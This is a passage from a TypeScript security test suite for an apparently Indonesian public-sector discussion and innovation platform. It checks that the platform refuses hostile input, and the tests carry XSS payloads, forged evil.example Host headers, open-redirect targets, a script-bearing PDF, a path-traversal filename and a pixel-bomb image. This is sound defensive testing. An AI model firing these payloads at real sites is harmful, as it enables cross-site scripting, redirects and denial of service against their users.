    const upload = await multipart('warga', '/_actions/community.uploadFile', { subject: 'dataset:data-internal', accept: 'image' }, { name: 'a.png', type: 'image/png', bytes: PNG });
    expect(upload.status).toBe(404);
    for (const who of ['warga', 'anonymous']) {
      const page = await c[who]!.get('/discussions/dataset/data-internal');
      expect(page.status).toBe(404);
      expect(page.text).not.toContain('data internal');
    }
  });

  test('a held comment is seen only by its author and the subject’s moderators (not other citizens, visitors or other OPDs)', async () => {
    const secret = 'komentar-tertahan-rahasia-91';
    // warga2 has no approved comment yet, so theirs is held (warga's were approved above).
    const posted = await c.warga2!.post('/_actions/community.postComment', { subject: 'dataset:uji-publik', body: secret });
    expect(posted.status).toBe(200);
    const sees = async (who: string, pathname: string) => (await c[who]!.get(pathname)).text.includes(secret);
    expect(await sees('warga2', '/discussions/dataset/uji-publik')).toBe(true);
    expect(await sees('kominfo', '/moderation')).toBe(true);
    for (const who of ['warga', 'anonymous', 'dinkes']) {
      for (const pathname of ['/discussions/dataset/uji-publik', '/datasets/uji-publik', '/moderation', '/notifications']) expect(await sees(who, pathname), `${who} ${pathname}`).toBe(false);
    }
  });

  test('the Atom feed’s links do not follow a forged Host or X-Forwarded-Host', async () => {
    const feed = await raw({ method: 'GET', path: '/badami/feed.xml', headers: { host: 'evil.example', 'x-forwarded-host': 'evil2.example', 'x-forwarded-proto': 'https' } });
    expect(feed.status).toBe(200);
    expect(feed.text).not.toMatch(/evil2?\.example/);
  });

  test('evidence links with javascript: or data: are refused and never rendered as links', async () => {
    for (const url of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)']) {
      const reply = await c.dinkes!.post(`/badami/innovations/${id}?_action=badami.postUpdate`, { id, title: 'Bukti', body: 'isi', evidence_indicator: 'regulasi', evidence_url: url });
      expect(reply.status, url).toBe(400);
    }
    expectNoLivePayload((await innovationPage()).text);
  });
});

describe('reflected input and cross-thread tricks', () => {
  test('board filters, sort, view and lang reflect hostile values inert (the dropped filters are reported as text)', async () => {
    const q = new URLSearchParams();
    for (const k of ['stage', 'opd', 'affair', 'type', 'health', 'kecamatan', 'sort', 'view', 'q', 'lang']) q.append(k, `${XSS.script}${XSS.img}${XSS.attr}`);
    for (const pathname of [`/badami?${q}`, `/badami?view=table&${q}`, `/badami/innovations/${id}?${q}`, `/notifications?${q}`, `/moderation?${q}`, `/discussions/dataset/uji-publik?${q}`]) {
      const reply = await c.dinkes!.get(pathname);
      expect(reply.status, pathname).toBeLessThan(500);
      expectNoLivePayload(reply.text);
    }
    const exportReply = await c.dinkes!.get(`/badami/export?opd=${encodeURIComponent(XSS.script)}&format=${encodeURIComponent(XSS.img)}`);
    expect(exportReply.status).toBe(400);
    expect(exportReply.headers.get('content-type')).toContain('text/plain');
  });

  test('a reply cannot attach to a comment of another thread (e.g. from a public thread into another subject)', async () => {
    const page = await innovationPage();
    const parent = commentIds(page.text)[0]!;
    expect(parent).toBeTruthy();
    const reply = await c.dinkes!.post('/_actions/community.postComment', { subject: 'dataset:uji-publik', parentId: parent, body: 'balasan lintas utas' });
    expect(reply.status).toBeGreaterThanOrEqual(400);
    for (const pathname of [`/badami/innovations/${id}`, '/discussions/dataset/uji-publik']) expect((await c.anonymous!.get(pathname)).text).not.toContain('balasan lintas utas');
  });

  test('a comment hidden by a moderator cannot be brought back or rewritten by its author', async () => {
    const posted = await c.warga!.post('/_actions/community.postComment', { subject: `innovation:${id}`, body: 'komentar yang akan disembunyikan' });
    expect(posted.status).toBe(200);
    await approveHeld();
    const all = (await c.dinkes!.get(`/badami/innovations/${id}`)).text;
    const hiddenId = [...all.matchAll(/<article id="comment-([^"]+)"[\s\S]*?<\/article>/g)].find((m) => m[0].includes('komentar yang akan disembunyikan'))?.[1];
    if (!hiddenId) throw new Error('the comment to hide is not on the page');
    expect((await c.dinkes!.post('/_actions/community.moderateComment', { id: hiddenId, decision: 'hide', reason: 'melanggar aturan' })).status).toBe(200);
    expect((await c.anonymous!.get(`/badami/innovations/${id}`)).text).not.toContain('komentar yang akan disembunyikan');
    const edit = await c.warga!.post('/_actions/community.editComment', { id: hiddenId, body: 'komentar disunting setelah disembunyikan' });
    expect(edit.status).toBeGreaterThanOrEqual(400);
    expect((await c.warga!.post('/_actions/community.moderateComment', { id: hiddenId, decision: 'restore' })).status).toBeGreaterThanOrEqual(403);
    const after = (await c.anonymous!.get(`/badami/innovations/${id}`)).text;
    expect(after).not.toContain('komentar yang akan disembunyikan');
    expect(after).not.toContain('komentar disunting setelah disembunyikan');
  });

  test('the sign-in link a discussion offers cannot be turned into an open redirect', async () => {
    const fresh = new Client(server.url);
    for (const next of ['https://evil.example/', '//evil.example/', '/\\evil.example/', 'javascript:alert(1)']) {
      const reply = await fresh.post(`/login?next=${encodeURIComponent(next)}&_action=auth.login`, { email: 'warga@attack.test', password });
      if (reply.status === 303) expect(reply.location ?? '', next).toMatch(/^\/(?![/\\])/);
      expect(reply.location ?? '').not.toContain('evil.example');
      await fresh.post('/logout', {});
    }
  });
});

describe('abuse limits', () => {
  test('an image whose header claims 2.5 billion pixels is refused quickly and the server keeps answering', async () => {
    const started = Date.now();
    const reply = await multipart('dinkes', '/_actions/community.uploadFile', { subject: `innovation:${id}`, accept: 'image' }, { name: 'bom.png', type: 'image/png', bytes: pngClaiming(50_000, 50_000) });
    expect(reply.status).toBe(400);
    expect(Date.now() - started).toBeLessThan(20_000);
    expect((await c.anonymous!.get('/badami')).status).toBe(200);
  });

  test('a document with script inside is served only as a download, never inline', async () => {
    const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n<html><script>alert(1)</script></html>\n%%EOF\n');
    const reply = await multipart('dinkes', '/_actions/community.uploadFile', { subject: `innovation:${id}`, accept: 'evidence' }, { name: '../../../laporan.html', type: 'text/html', bytes: pdf });
    expect(reply.status).toBe(200);
    const uploadId = /\/uploads\/([a-z0-9]+)/.exec(reply.text)![1]!;
    const served = await fetch(`${server.url}/uploads/${uploadId}`);
    expect(served.headers.get('content-type')).toBe('application/pdf');
    const disposition = served.headers.get('content-disposition') ?? '';
    expect(disposition).toMatch(/^attachment;/);
    expect(decodeURIComponent(disposition)).not.toMatch(/\.\.|\/|\.html/);
    expect(served.headers.get('content-security-policy')).toContain('sandbox');
  });

  test('a citizen posting comments in a burst is stopped (429 with Retry-After) after the allowance', async () => {
    const statuses: number[] = [];
    let retryAfter: string | null = null;
    for (let i = 0; i < 14; i++) {
      const reply = await c.warga2!.request('/_actions/community.postComment', { method: 'POST', form: { subject: 'dataset:uji-publik', body: `banjir komentar ${i}` } });
      statuses.push(reply.status);
      if (reply.status === 429) retryAfter = reply.headers.get('retry-after');
    }
    expect(statuses).toContain(429);
    expect(Number(retryAfter)).toBeGreaterThan(0);
  });
});

const FEED_ELEMENTS = `
import sys, json, xml.etree.ElementTree as ET
root = ET.fromstring(sys.stdin.read().encode('utf-8'))
print(json.dumps(sorted({e.tag.split('}')[-1] for e in root.iter()})))
`;

const XLSX_FORMULAS = `
import sys, json, zipfile, re
z = zipfile.ZipFile(sys.argv[1])
formulas = 0
has_title = False
for name in z.namelist():
    if name.startswith('xl/worksheets/') or name == 'xl/sharedStrings.xml':
        xml = z.read(name).decode('utf-8')
        formulas += len(re.findall(r'<f[ >]', xml))
        has_title = has_title or 'HYPERLINK' in xml
print(json.dumps({'formulas': formulas, 'hasTitle': has_title}))
`;
